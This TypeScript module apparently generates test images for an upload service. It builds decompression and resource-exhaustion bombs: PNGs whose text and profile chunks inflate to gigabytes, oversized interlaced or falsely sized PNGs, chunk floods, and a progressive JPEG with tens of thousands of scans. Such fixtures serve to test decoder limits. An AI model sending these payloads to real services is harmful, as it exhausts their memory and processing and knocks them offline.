import { deflateSync } from 'node:zlib'
import { PNG_COLOUR, pngChunk, pngOf } from './png-parts.ts'

/**
 * Small pictures that are expensive to decode. All of them are below the limit of an upload, and valid
 * enough for a decoder to start.
 */

/** Bytes that deflate shrinks to a thousandth. */
const zeros = (count: number) => Buffer.alloc(count)

/** Image data of a PNG of one colour. */
function flatImage(rows: number, bytesPerRow: number): Buffer {
  return pngChunk('IDAT', deflateSync(zeros(rows * (bytesPerRow + 1)), { level: 9 }))
}

/** Bytes of one inflated chunk: libvips lets libpng take 50 MB for each. */
const INFLATED_CHUNK = 49_000_000

/**
 * A PNG of 10 × 10 pixels whose text and profile chunks inflate to about a thousand times its size.
 * @param bytes size of the file, about; 2.9 MB inflates to 2.9 GB
 */
export function compressedTextBomb(bytes = 2_900_000): Buffer {
  const compressed = deflateSync(zeros(INFLATED_CHUNK), { level: 9 })
  const text = pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), compressed]))
  const profile = pngChunk('iCCP', Buffer.concat([Buffer.from('icc\0\0'), compressed]))
  const texts = Array.from({ length: Math.floor(bytes / text.length) - 1 }, () => text)
  return pngOf({ width: 10, height: 10 }, profile, ...texts, flatImage(10, 30))
}

/**
 * A PNG of 7,000 × 7,000 pixels with 16 bits a sample, which takes 392 MB of memory: interlaced
 * pictures have to be decoded whole. About 380 KB.
 */
export function interlacedBomb(side = 7000): Buffer {
  const header = { width: side, height: side, depth: 16, colour: PNG_COLOUR.rgba, interlaced: true }
  // Seven passes of Adam7 have at most two filter bytes for each row.
  return pngOf(header, flatImage(side, side * 8 + 1))
}

/** A PNG of a few bytes that claims any size; its image data ends after 1,000 bytes. */
export function claimedSizeBomb(width: number, height: number): Buffer {
  return pngOf({ width, height }, pngChunk('IDAT', deflateSync(zeros(1000))))
}

/**
 * A PNG with very many empty chunks.
 * @param chunks each takes 12 bytes
 */
export function chunkFloodBomb(chunks = 400_000): Buffer {
  const empty = pngChunk('teXt')
  const flood = Buffer.concat(Array.from({ length: chunks }, () => empty))
  return pngOf({ width: 10, height: 10 }, flood, flatImage(10, 30))
}

/** A segment of a JPEG with its marker and length. */
function segment(marker: number, data: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(data.length + 2, 2)
  return Buffer.concat([head, data])
}

/** A Huffman table of one code, of one bit, that stands for `symbol`. */
function huffmanTable(tableClass: number, symbol: number): Buffer {
  return segment(0xc4, Buffer.from([tableClass << 4, 1, ...Array<number>(15).fill(0), symbol]))
}

/**
 * A progressive JPEG that makes a decoder process all its pixels again and again: each scan is a few
 * bytes. The defaults give 2.7 MB and minutes of work.
 * @param side pixels of both sides
 */
export function scanBomb(scans = 60_000, side = 5000): Buffer {
  const frame = Buffer.from([8, 0, 0, 0, 0, 1, 1, 0x11, 0])
  frame.writeUInt16BE(side, 1)
  frame.writeUInt16BE(side, 3)
  const blocks = Math.ceil(side / 8) ** 2
  // One zero bit for each block: no difference to the one before.
  const direct = Buffer.concat([
    segment(0xda, Buffer.from([1, 1, 0, 0, 0, 0])),
    zeros(Math.ceil(blocks / 8)),
  ])
  // "End of band" for 32,767 blocks: one zero bit and fourteen ones.
  const runs = Math.ceil(blocks / 32_767)
  const bits = '011111111111111'.repeat(runs)
  const bytes = (bits.match(/.{1,8}/g) ?? []).map((byte) => parseInt(byte.padEnd(8, '1'), 2))
  const stuffed = bytes.flatMap((byte) => (byte === 0xff ? [0xff, 0] : [byte]))
  const empty = Buffer.concat([
    segment(0xda, Buffer.from([1, 1, 0, 1, 63, 0])),
    Buffer.from(stuffed),
  ])
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, Buffer.from([0, ...Array<number>(64).fill(1)])),
    segment(0xc2, frame),
    huffmanTable(0, 0),
    huffmanTable(1, 0xe0),
    direct,
    ...Array.from({ length: scans }, () => empty),
    Buffer.from([0xff, 0xd9]),
  ])
}
